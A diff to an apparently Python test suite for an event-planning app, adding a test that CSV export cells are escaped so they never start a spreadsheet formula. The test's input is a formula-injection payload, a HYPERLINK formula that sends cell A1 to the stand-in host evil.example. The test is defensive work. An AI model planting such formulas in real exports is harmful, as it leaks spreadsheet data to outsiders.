@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 import re
 from datetime import date, time
@@ -250,3 +252,15 @@ def test_nightly_job_renders_the_printed_overview_for_the_page(
     assert "August 2027" in text
     english = client.get("/en/jahresueberblick/2027.pdf")
     assert "Index by place" in pdf_text(b"".join(english.streaming_content))
+
+
+def test_overview_csv_cells_never_start_a_formula(demo, client) -> None:  # type: ignore[no-untyped-def]
+    attack = '=HYPERLINK("http://evil.example/?leak="&A1;"Programm")'
+    make_event(attack, start=date(2027, 9, 4), expected_visitors=20_000, is_major_event=True)
+
+    rows = list(csv.reader(io.StringIO(client.get("/planung/2027.csv").content.decode())))
+
+    titles = [row[5] for row in rows[1:]]
+    assert "'" + attack in titles
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    assert "Krämerbrückenfest" in titles  # ordinary text stays as it is
